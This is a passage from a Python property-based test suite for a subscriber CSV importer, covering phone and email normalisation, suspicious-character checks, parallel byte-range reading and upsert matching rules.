        or len(digits) < 2
    )


@settings(max_examples=300, deadline=None)
@given(example=st.sampled_from(_EXAMPLES), form=st.sampled_from(_FORMATS), country=_COUNTRIES,
       tails=st.lists(st.text("0123456789", min_size=1, max_size=8), min_size=5, max_size=40))  # fmt: skip
def test_answers_remembered_by_leading_digits_are_phonenumbers_answers_for_every_number_they_cover(
    example, form, country, tails
):
    # Many numbers that share their leading digits: most answers come from what the first taught.
    typed = phonenumbers.format_number(example, form)
    for tail in tails:
        raw = typed[: max(1, len(typed) - len(tail))] + tail
        fast = phones.fast_e164(raw, country)
        assert fast is None or fast == _reference_e164(raw, country)


_METADATA_PATTERNS = sorted({
    desc.national_number_pattern
    for region in _REGIONS
    for name in ("general_desc", "fixed_line", "mobile", "toll_free", "premium_rate", "voip", "uan")
    if (desc := getattr(phonenumbers.PhoneMetadata.metadata_for_region(region), name, None)) is not None
    and desc.national_number_pattern
})  # fmt: skip
_START_PATTERNS = sorted({
    pattern
    for region in _REGIONS
    for pattern in (phonenumbers.PhoneMetadata.metadata_for_region(region).national_prefix_for_parsing,
                    phonenumbers.PhoneMetadata.metadata_for_region(region).international_prefix,
                    phonenumbers.PhoneMetadata.metadata_for_region(region).leading_digits)
    if pattern
})  # fmt: skip


@settings(max_examples=2000, deadline=None)
@given(pattern=st.sampled_from(_METADATA_PATTERNS), example=st.sampled_from(_EXAMPLES),
       digits=st.text("0123456789", min_size=1, max_size=17), use_example=st.booleans(),
       other=st.text("0123456789", min_size=17, max_size=17))  # fmt: skip
def test_the_digits_a_pattern_verdict_depends_on_are_all_it_depends_on(
    pattern, example, digits, use_example, other
):
    if use_example:
        digits = phonenumbers.national_significant_number(example)
    depth = phone_patterns.full_depth(pattern, digits)
    if depth is not None:  # any other digits after those: the same verdict
        changed = digits[:depth] + other[: len(digits) - depth]
        assert bool(re.fullmatch(pattern, changed)) == bool(re.fullmatch(pattern, digits))


@settings(max_examples=1000, deadline=None)
@given(pattern=st.sampled_from(_START_PATTERNS), digits=st.text("0123456789", min_size=1, max_size=17),
       other=st.text("0123456789", min_size=17, max_size=17))  # fmt: skip
def test_a_pattern_matched_at_the_start_reads_no_further_than_its_depth(pattern, digits, other):
    depth = phone_patterns.start_depth(pattern)
    if depth is not None:
        found, changed = (
            re.match(pattern, digits),
            re.match(pattern, digits[:depth] + other[: max(0, len(digits) - depth)]),
        )
        assert (found and (found.span(), found.groups())) == (changed and (changed.span(), changed.groups()))


def test_the_pattern_analysis_covers_the_metadata():
    assert phone_patterns.ANALYSABLE
    assert phone_patterns.full_depth(r"9\d{9}", "9123456789") == 1
    assert phone_patterns.full_depth(r"(?:3(?:0[12]|4[1-35-79])|9)\d{7}", "3411234567") == 3
    assert phone_patterns.full_depth(r"8\d{13}|[347-9]\d{9}", "12345") == 0  # no length-5 number at all
    assert phone_patterns.start_depth("810") == 3 and phone_patterns.start_depth(r"\d+") is None
    analysed = [
        pattern for pattern in _METADATA_PATTERNS if phone_patterns.full_depth(pattern, "1" * 10) is not None
    ]
    assert len(analysed) > 0.9 * len(_METADATA_PATTERNS)


@pytest.mark.parametrize("raw", ["+7 912 345-67-89", "8 (912) 345-67-89", "89123456789", "+79123456789",
                                 "8 912 345 67 89", "7 912 345 67 89", "(912) 345-67-89", "8 (343) 123-45-67"])  # fmt: skip
def test_the_formats_people_type_take_the_fast_path(raw):
    assert phones.fast_e164(raw, "RU") == phones.slow_e164(raw, "RU")


_ATEXT = "abcXYZ019!#$%&'*+/=?^_`{|}~-"
_local = st.one_of(st.text(_ATEXT + ".", min_size=1, max_size=70), st.text(_ATEXT, min_size=60, max_size=66),
                   st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1, max_size=8))  # fmt: skip
_label = st.one_of(st.text("abcdefghijklmnopqrstuvwxyzABC0123456789-", min_size=1, max_size=12),
                   st.sampled_from(["xn--d1acufc", "xn--p1ai", "xn--80ak6aa92e", "xn--zz", "localhost", "ex_ample",
                                    "a" * 64, "123", "-ex", "ex-", "example", "Mail", "invalid", "local", "test"]))  # fmt: skip
_domain = st.lists(_label, min_size=1, max_size=4).map(".".join)


@settings(max_examples=1000, deadline=None)
@given(local=_local, domain=_domain, trailing_dot=st.booleans())
def test_the_email_fast_path_agrees_with_email_validator_on_generated_addresses(local, domain, trailing_dot):
    address = f"{local}@{domain}{'.' if trailing_dot else ''}"
    try:
        expected = validate_email(address, check_deliverability=False).normalized
    except EmailNotValidError:
        with pytest.raises(subscribers.RowError):
            subscribers.normalise_email(address)
    else:
        assert subscribers.normalise_email(address) == expected


def test_the_plain_text_shortcut_knows_every_printable_character_the_rules_flag():
    every = map(chr, range(sys.maxunicode + 1))
    flagged = [char for char in every if char.isprintable() and characters.suspicious(char)]
    assert [char for char in flagged if char < characters._FIRST_PRINTABLE_HIDDEN_ABOVE_034F] == ["\u034f"]


@settings(max_examples=500, deadline=None)
@given(st.text(st.one_of(st.characters(), st.sampled_from("\u034f\u115f\u3164\ufe0f\u200b\u202e\udc80\x85\t")),
               max_size=12))  # fmt: skip
def test_plain_text_is_text_no_character_rule_has_anything_to_say_about(value):
    if characters.plain(value):
        assert not characters.suspicious(value) and characters.problem(value) is None
        assert characters.strip_invisible(value) == value
        value.encode("utf-8")  # no byte that was not UTF-8 (kept as a lone surrogate)


# Worker processes read byte ranges on their own: the same records, the same line numbers --------

_PIECE_TEXTS = [
    "ACC-{n},Имя {n},u{n}@example.org,,77,edo,ru", '"ACC-{n}","Имя {n}","u{n}@example.org","","77","edo","ru"',
    'ACC-{n},"Две\nстроки",u{n}@example.org,,77,edo,ru', 'ACC-{n},"bad"quote,u{n}@example.org,,77,edo,ru',
    'ACC-{n},"unterminated,u{n}@example.org,,77,edo,ru', "", "   ", "ACC-{n},too,few", "x" * 40,
    'ACC-{n},"Сидоров, Пётр",u{n}@example.org,,77,edo,ru', "ACC-{n},Bad\x00Nul,u{n}@example.org,,77,edo,ru",
]  # fmt: skip
_PIECES = st.sampled_from(_PIECE_TEXTS)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(pieces=st.lists(_PIECES, max_size=60), ends=st.lists(st.sampled_from(["\n", "\r\n", "\r"]), min_size=1),
       lines=st.integers(1, 9), give_up_after=st.integers(1, 30), broken_utf8=st.booleans())  # fmt: skip
def test_ranges_read_on_their_own_give_the_records_of_one_sequential_read(
    tmp_path, pieces, ends, lines, give_up_after, broken_utf8
):
    text = HEADER + "\n" + "".join(piece.format(n=n) + ends[n % len(ends)] for n, piece in enumerate(pieces))
    data = text.encode("utf-8")
    path = tmp_path / "ranges.csv"
    path.write_bytes(data.replace("Имя 3".encode(), b"\xff\xfe 3") if broken_utf8 else data)
    source = csv_files.CsvSource(path)
    width = len(source.header())
    sequential = list(source.records(width))
    source.close()
    found = list(csv_files.ranges(str(path), source.header_end, width, lines, give_up_after=give_up_after))
    assert found[0][0] == 0 and all(a[1] == b[0] for a, b in zip(found, found[1:], strict=False))
    records = []
    for where in found:
        if where[1] is None:  # the rest, read in one go
            rest = csv_files.CsvSource(path, start=where[0], first_line=where[2])
            if where[0] == 0:
                rest.header()
            records += list(rest.records(width))
            rest.close()
        else:
            records += csv_files.range_records(str(path), where, width)
    assert records == sequential


def test_an_import_by_worker_processes_is_the_import_of_one_process(engine, config, tmp_path):
    rows = [piece.format(n=n) for n, piece in enumerate(_PIECE_TEXTS * 7)]
    rows += ["ACC-5,Снова,again@example.org,,66,edo,en", ",Без номера,U3@EXAMPLE.org,,77,edo,ru",
             ",Телефон,,8 (912) 345-67-01,77,edo,ru", "ACC-200,Общий,u1@example.org,,77,edo,ru"]  # fmt: skip
    path = write_csv(tmp_path, HEADER, *rows, newline="\r\n")
    outcomes = []
    for workers in (1, 2):
        with write_session(engine) as session:
            session.execute(Subscriber.__table__.delete())
        errors = io.StringIO()
        report = import_csv(engine, config, path, batch_size=7, workers=workers, errors_writer=errors)
        again = import_csv(engine, config, path, batch_size=7, workers=workers)
        assert again.imported == again.unchanged and again.rejected == report.rejected
        stored = sorted((s.external_id or "", s.name, s.email or "", s.phone or "", s.region, s.locale, s.status)
                        for s in all_subscribers(engine))  # fmt: skip
        outcomes.append((report.rows, report.inserted, report.updated, report.superseded, report.rejected,
                         [(r.line, r.lines, r.reason) for r in report.rejections], errors.getvalue(),
                         report.shared_mailboxes, [w.accounts for w in report.warnings], stored))  # fmt: skip
    assert outcomes[0] == outcomes[1]
    assert outcomes[0][4] > 20 and outcomes[0][1] > 20 and outcomes[0][7] == 1


# The set-based upsert keeps the matching rules row by row -------------------------------------------


def test_an_email_row_does_not_match_an_account_row_of_its_own_batch_but_of_an_earlier_one(
    engine, config, tmp_path
):
    first = import_csv(engine, config, write_csv(tmp_path, HEADER, "ACC-1,A,x@example.org,,77,edo,ru",
                                                 ",B,x@example.org,,77,edo,ru"))  # fmt: skip
    assert (first.inserted, first.updated) == (2, 0)
    again = import_csv(
        engine, config, write_csv(tmp_path, HEADER, ",C,X@example.org,,77,edo,ru", name="2.csv")
    )
    assert (again.inserted, again.updated) == (0, 1)  # the stored subscriber without an account number
    assert [(s.external_id, s.name) for s in all_subscribers(engine)] == [("ACC-1", "A"), (None, "C")]


def test_two_rows_naming_one_subscriber_by_different_keys_both_count_and_the_later_wins(
    engine, config, tmp_path
):
    import_csv(engine, config, write_csv(tmp_path, HEADER, ",S,s@example.org,+79120000001,77,edo,ru"))
    path = write_csv(tmp_path, HEADER, ",By mail,s@example.org,,77,edo,ru", ",By phone,,+79120000001,66,edo,ru",
                     name="2.csv")  # fmt: skip
    report = import_csv(engine, config, path)
    assert (report.inserted, report.updated, report.unchanged) == (0, 2, 0)
    [s] = all_subscribers(engine)
    assert (s.name, s.email, s.phone, s.region) == ("By phone", None, "+79120000001", "66")


def test_shared_mailboxes_are_found_across_the_files_of_several_processes(tmp_path):
    mailboxes = SharedMailboxes(tmp_path)
    mailboxes.add(
        [(f"m{n}@example.org", f"A{n}", 10 + n) for n in range(40)] + [("solo@example.org", "S", 5)]
    )
    mailboxes.close()
    (tmp_path / f"seen-{os.getpid()}.db").rename(tmp_path / "seen-1.db")  # as if another process wrote it
    mailboxes.add(
        [(f"m{n}@example.org", f"B{n}", 100 - n) for n in range(0, 40, 2)] + [("m1@example.org", "A1", 99)]
    )
    found, total = mailboxes.found(3)
    assert total == 20  # m0, m2, … m38: each under A and B; m1 twice under A1 only
    assert [(m.email, m.accounts) for m in found] == [
        ("m0@example.org", (("A0", 10), ("B0", 100))),
        ("m2@example.org", (("A2", 12), ("B2", 98))),
        ("m4@example.org", (("A4", 14), ("B4", 96))),
    ]
